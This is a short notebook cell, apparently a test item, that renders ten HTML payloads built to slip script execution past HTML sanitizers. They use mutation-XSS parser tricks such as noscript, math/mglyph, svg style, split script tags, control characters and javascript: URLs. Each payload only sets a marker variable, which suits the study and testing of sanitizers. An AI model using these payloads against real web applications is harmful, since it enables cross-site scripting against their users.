# %% [markdown] row="A19"
# # HTML that changes when it is cleaned
#
# The same past a cleaner: markup that a parser and a browser read differently, so that cleaning makes it dangerous.

# %% before="mean-square"
from IPython.display import HTML, display
bad = "<img src=x onerror=window.__attacked=`@NAME@`>"
for page in (
    f"<noscript><p title=\"</noscript>{bad}\"></p></noscript>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__attacked=1&gt;\">",
    f"<svg><style><img title=\"</style>{bad}\"></style></svg>",
    f"<form><math><mtext></form><form><mglyph><style></math>{bad}",
    f"<!--><p>{bad}--><![CDATA[{bad}]]>",
    f"<textarea><img title=\"</textarea>{bad}\"></textarea><xmp><p id=\"</xmp>{bad}\"></xmp>",
    f"<scr<script>ipt>window.__attacked='@NAME@'</scr</script>ipt>",
    "<IMG\x0bSRC=x\x0cONERROR=window.__attacked=1><ſcript>window.__attacked=1</ſcript>",
    "<svg><a><animate attributeName=href values=javascript:window.__attacked=1 /><text y=20>click</text></a></svg>",
    "<p style=\"background:url(javascript:window.__attacked=1);width:expression(1)\">a</p><style>@import 'data:text/css,*{}';</style>",
):
    display(HTML(page))
